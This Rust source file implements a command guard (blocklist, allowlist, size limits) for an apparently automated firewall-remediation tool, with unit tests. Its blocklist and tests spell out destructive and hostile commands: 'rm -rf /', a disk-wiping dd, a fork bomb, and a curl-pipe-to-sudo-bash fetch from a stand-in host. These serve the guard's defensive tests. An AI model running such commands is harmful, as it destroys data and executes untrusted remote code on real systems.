//! Command guard: size, blocklist and allowlist checks applied to every
//! command list of an action (commands, canary checks, rollback) before it
//! is queued and again before it runs.

use regex::Regex;
use serde::{Deserialize, Serialize};
use tracing::warn;

pub const DEFAULT_MAX_COMMANDS: u32 = 12;
pub const DEFAULT_MAX_COMMAND_LENGTH: u32 = 512;

/// Patterns that are never allowed, whatever the allowlist says.
pub const DEFAULT_BLOCKLIST: &[&str] = &[
    r"\brm\s+(-[A-Za-z]*[rR][A-Za-z]*f|-[A-Za-z]*f[A-Za-z]*[rR])",
    r"\brm\s+.*--no-preserve-root",
    r"\bmkfs(\.[a-z0-9]+)?\b",
    r"\bfdisk\b",
    r"\bdd\s+.*\bof=/dev/",
    r"\b(shutdown|reboot|halt|poweroff)\b",
    r":\(\)\s*\{\s*:\s*\|\s*:\s*&\s*\}\s*;\s*:",
    r"\b(curl|wget)\b.*\|\s*(sudo\s+)?(ba|da|z)?sh\b",
];

/// Read-only inspection, firewall state backup and service-management
/// commands.
pub const DEFAULT_ALLOWLIST: &[&str] = &[
    r"^sudo ufw (status|default|limit|deny|allow|delete|reload)\b",
    r"^sudo cp -p /etc/(ufw/user\.rules|default/ufw)(\.warden-bak)? /etc/(ufw/user\.rules|default/ufw)(\.warden-bak)?$",
    r"^sudo systemctl (status|is-active|reload|restart) [A-Za-z0-9@._-]+$",
    r"^sudo ss -[A-Za-z]+$",
    r"^sudo (last|lastlog|who)\b",
    r"^sudo journalctl\b",
    r"^sudo ls\b",
    r"^sudo ps\b",
    r"^sudo sshd -t$",
    r"^sudo fail2ban-client (status|set)\b",
    r"^sudo dpkg --verify\b",
    r"^sudo passwd -l [a-z_][a-z0-9_-]*$",
    r"^sudo grep\b",
    r"^grep\b",
];

#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[serde(default)]
pub struct GuardPolicy {
    pub enforce_allowlist: bool,
    pub max_commands_per_action: u32,
    pub max_command_length: u32,
    pub allowlist: Vec<String>,
    pub blocklist: Vec<String>,
}

impl Default for GuardPolicy {
    fn default() -> Self {
        Self {
            enforce_allowlist: true,
            max_commands_per_action: DEFAULT_MAX_COMMANDS,
            max_command_length: DEFAULT_MAX_COMMAND_LENGTH,
            allowlist: DEFAULT_ALLOWLIST.iter().map(|s| s.to_string()).collect(),
            blocklist: DEFAULT_BLOCKLIST.iter().map(|s| s.to_string()).collect(),
        }
    }
}

impl GuardPolicy {
    /// Patterns in either list that fail to compile.
    pub fn invalid_patterns(&self) -> Vec<String> {
        self.allowlist
            .iter()
            .chain(self.blocklist.iter())
            .filter(|p| Regex::new(p).is_err())
            .cloned()
            .collect()
    }
}

#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum GuardIssueKind {
    TooManyCommands,
    TooLong,
    Blocked,
    NotAllowlisted,
}

/// The list of an action a guarded command belongs to.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum CommandList {
    #[default]
    Commands,
    CanaryChecks,
    RollbackCommands,
}

impl std::fmt::Display for CommandList {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.write_str(match self {
            CommandList::Commands => "commands",
            CommandList::CanaryChecks => "canary_checks",
            CommandList::RollbackCommands => "rollback_commands",
        })
    }
}

#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct GuardIssue {
    #[serde(default)]
    pub list: CommandList,
    pub index: usize,
    pub command: String,
    pub kind: GuardIssueKind,
    pub reason: String,
}

/// Comments and blank lines are documentation, not commands.
pub fn is_executable(command: &str) -> bool {
    let trimmed = command.trim();
    !trimmed.is_empty() && !trimmed.starts_with('#')
}

fn compile(patterns: &[String], list: &str) -> Vec<Regex> {
    patterns
        .iter()
        .filter_map(|p| match Regex::new(p) {
            Ok(re) => Some(re),
            Err(e) => {
                warn!(list, pattern = %p, error = %e, "skipping invalid guard pattern");
                None
            }
        })
        .collect()
}

/// Check every executable command against `policy`. An empty result means
/// the list passes.
pub fn validate_commands(commands: &[String], policy: &GuardPolicy) -> Vec<GuardIssue> {
    let executable: Vec<(usize, &String)> = commands
        .iter()
        .enumerate()
        .filter(|(_, c)| is_executable(c))
        .collect();

    let max = policy.max_commands_per_action as usize;
    if executable.len() > max {
        let (index, command) = executable[max];
        return vec![GuardIssue {
            list: CommandList::Commands,
            index,
            command: command.clone(),
            kind: GuardIssueKind::TooManyCommands,
            reason: format!(
                "{} executable commands exceed the limit of {max}",
                executable.len()
            ),
        }];
    }

    let blocklist = compile(&policy.blocklist, "blocklist");
    let allowlist = if policy.enforce_allowlist {
        compile(&policy.allowlist, "allowlist")
    } else {
        Vec::new()
    };

    let mut issues = Vec::new();
    for (index, command) in executable {
        let trimmed = command.trim();
        let issue = |kind, reason: String| GuardIssue {
            list: CommandList::Commands,
            index,
            command: command.clone(),
            kind,
            reason,
        };

        if trimmed.len() > policy.max_command_length as usize {
            issues.push(issue(
                GuardIssueKind::TooLong,
                format!(
                    "command is {} chars, limit is {}",
                    trimmed.len(),
                    policy.max_command_length
                ),
            ));
            continue;
        }
        if let Some(re) = blocklist.iter().find(|re| re.is_match(trimmed)) {
            issues.push(issue(
                GuardIssueKind::Blocked,
                format!("matches blocked pattern '{}'", re.as_str()),
            ));
            continue;
        }
        if policy.enforce_allowlist && !allowlist.iter().any(|re| re.is_match(trimmed)) {
            issues.push(issue(
                GuardIssueKind::NotAllowlisted,
                "does not match any allowlisted pattern".to_string(),
            ));
        }
    }
    issues
}

/// Guard every list that can reach the executor: the commands, the canary
/// checks and the rollback commands. Each list is held to the limits on its
/// own.
pub fn validate_action_lists(
    commands: &[String],
    canary_checks: &[String],
    rollback_commands: &[String],
    policy: &GuardPolicy,
) -> Vec<GuardIssue> {
    [
        (CommandList::Commands, commands),
        (CommandList::CanaryChecks, canary_checks),
        (CommandList::RollbackCommands, rollback_commands),
    ]
    .into_iter()
    .flat_map(|(list, entries)| {
        validate_commands(entries, policy)
            .into_iter()
            .map(move |issue| GuardIssue { list, ..issue })
    })
    .collect()
}

// ---------------------------------------------------------------------------
// Tests
// ---------------------------------------------------------------------------

#[cfg(test)]
mod tests {
    use super::*;

    fn cmds(list: &[&str]) -> Vec<String> {
        list.iter().map(|s| s.to_string()).collect()
    }

    #[test]
    fn default_patterns_compile() {
        assert!(GuardPolicy::default().invalid_patterns().is_empty());
    }

    #[test]
    fn allowlisted_commands_pass() {
        let issues = validate_commands(
            &cmds(&[
                "# inspect first",
                "sudo ufw status verbose",
                "sudo ss -tulpn",
                "",
                "sudo ufw deny 6379/tcp",
                "grep -c Failed /var/log/auth.log",
            ]),
            &GuardPolicy::default(),
        );
        assert!(issues.is_empty(), "{issues:?}");
    }

    #[test]
    fn blocklist_beats_allowlist() {
        let issues = validate_commands(
            &cmds(&["sudo journalctl --rotate && reboot"]),
            &GuardPolicy::default(),
        );
        assert_eq!(issues.len(), 1);
        assert_eq!(issues[0].kind, GuardIssueKind::Blocked);

        let open = GuardPolicy {
            enforce_allowlist: false,
            ..GuardPolicy::default()
        };
        for bad in [
            "rm -rf /var/lib",
            "sudo rm -fr /",
            "mkfs.ext4 /dev/sda1",
            "dd if=/dev/zero of=/dev/sda",
            "shutdown -h now",
            ":(){ :|:& };:",
            "curl -s https://x.example/install | sudo bash",
        ] {
            let issues = validate_commands(&cmds(&[bad]), &open);
            assert_eq!(issues.len(), 1, "{bad}");
            assert_eq!(issues[0].kind, GuardIssueKind::Blocked, "{bad}");
        }
    }

    #[test]
    fn unknown_command_rejected_only_when_enforced() {
        let list = cmds(&["sudo apt-get install nmap"]);
        let issues = validate_commands(&list, &GuardPolicy::default());
        assert_eq!(issues[0].kind, GuardIssueKind::NotAllowlisted);
        assert_eq!(issues[0].index, 0);

        let open = GuardPolicy {
            enforce_allowlist: false,
            ..GuardPolicy::default()
        };
        assert!(validate_commands(&list, &open).is_empty());
    }

    #[test]
    fn too_many_counts_only_executable_lines() {
        let policy = GuardPolicy {
            max_commands_per_action: 2,
            ..GuardPolicy::default()
        };
        let ok = cmds(&["# a", "sudo ss -tulpn", "# b", "sudo ufw status"]);
        assert!(validate_commands(&ok, &policy).is_empty());

        let too_many = cmds(&["sudo ss -tulpn", "sudo ufw status", "sudo ps aux"]);
        let issues = validate_commands(&too_many, &policy);
        assert_eq!(issues.len(), 1);
        assert_eq!(issues[0].kind, GuardIssueKind::TooManyCommands);
        assert_eq!(issues[0].index, 2);
    }

    #[test]
    fn length_limit_applies_first() {
        let policy = GuardPolicy {
            max_command_length: 10,
            ..GuardPolicy::default()
        };
        let issues = validate_commands(&cmds(&["sudo ufw status verbose"]), &policy);
        assert_eq!(issues[0].kind, GuardIssueKind::TooLong);
    }

    #[test]
    fn rollback_and_canary_lists_are_guarded() {
        let issues = validate_action_lists(
            &cmds(&["sudo ufw status"]),
            &cmds(&["sudo systemctl is-active ssh", "sudo apt-get install nmap"]),
            &cmds(&["# undo", "rm -rf /"]),
            &GuardPolicy::default(),
        );
        assert_eq!(issues.len(), 2, "{issues:?}");
        assert_eq!(issues[0].list, CommandList::CanaryChecks);
        assert_eq!(issues[0].index, 1);
        assert_eq!(issues[0].kind, GuardIssueKind::NotAllowlisted);
        assert_eq!(issues[1].list, CommandList::RollbackCommands);
        assert_eq!(issues[1].index, 1);
        assert_eq!(issues[1].kind, GuardIssueKind::Blocked);
    }

    #[test]
    fn clean_action_lists_pass() {
        let issues = validate_action_lists(
            &cmds(&["sudo ufw limit 22/tcp"]),
            &cmds(&["sudo systemctl is-active ssh"]),
            &cmds(&["sudo ufw delete limit 22/tcp"]),
            &GuardPolicy::default(),
        );
        assert!(issues.is_empty(), "{issues:?}");
    }

    #[test]
    fn invalid_pattern_is_skipped() {
        let policy = GuardPolicy {
            allowlist: vec!["(unclosed".into(), r"^sudo ss\b".into()],
            ..GuardPolicy::default()
        };
        assert_eq!(policy.invalid_patterns(), vec!["(unclosed".to_string()]);
        assert!(validate_commands(&cmds(&["sudo ss -tulpn"]), &policy).is_empty());
    }
}
